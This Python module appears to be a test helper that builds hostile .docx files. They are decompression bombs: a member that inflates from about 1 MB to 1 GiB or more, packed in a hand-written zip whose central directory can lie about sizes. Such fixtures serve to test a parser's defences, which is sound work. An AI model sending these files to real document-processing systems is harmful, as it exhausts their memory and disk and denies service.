"""Hostile .docx files, built in a few milliseconds without inflating anything.

A run of zeros deflates to the same bytes block after block once the compressor is
flushed (Z_FULL_FLUSH resets its state), so a 1 GiB member is one 1 MiB block's bytes
repeated: about 1 MB on disk. The zip itself is written by hand so that its central
directory can lie about sizes.
"""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass

MB = 1024 * 1024
GB = 1024 * MB
CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"/>'
)


@dataclass(frozen=True)
class Member:
    name: str
    compressed: bytes
    size: int  # what the directory declares
    crc: int = 0
    method: int = 8  # deflate
    flags: int = 0


def deflated_zeros(size: int) -> bytes:
    """A raw deflate stream of `size` zero bytes (a multiple of 1 MiB)."""
    assert size % MB == 0
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = block.compress(bytes(MB)) + block.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()  # the final, empty block
    return one * (size // MB) + end


def member(name: str, data: bytes) -> Member:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return Member(name, c.compress(data) + c.flush(), len(data), zlib.crc32(data))


def zip_of(members: list[Member]) -> bytes:
    """A zip of the members as given; a size of 4 GiB or more is written as ZIP64."""
    out, directory = bytearray(), bytearray()
    for m in members:
        name = m.name.encode()
        offset = len(out)
        size, extra = m.size, b""
        if size >= 0xFFFFFFFF:  # ZIP64: the real size in an extra field
            size, extra = 0xFFFFFFFF, struct.pack("<HHQ", 1, 8, m.size)
        out += struct.pack(
            "<4s5H3L2H",
            b"PK\x03\x04",
            45,
            m.flags,
            m.method,
            0,
            0,
            m.crc,
            len(m.compressed),
            size,
            len(name),
            len(extra),
        )
        out += name + extra + m.compressed
        directory += struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            45,
            45,
            m.flags,
            m.method,
            0,
            0,
            m.crc,
            len(m.compressed),
            size,
            len(name),
            len(extra),
            0,
            0,
            0,
            0,
            offset,
        )
        directory += name + extra
    start = len(out)
    out += directory
    out += struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), start, 0
    )
    return bytes(out)


def bomb_docx(inflated: int = GB, declared: int | None = None) -> bytes:
    """A .docx whose document.xml inflates to `inflated` bytes; its directory declares
    `declared` (the truth when None)."""
    body = deflated_zeros(inflated)
    return zip_of(
        [
            member("[Content_Types].xml", CONTENT_TYPES),
            Member("word/document.xml", body, inflated if declared is None else declared),
        ]
    )
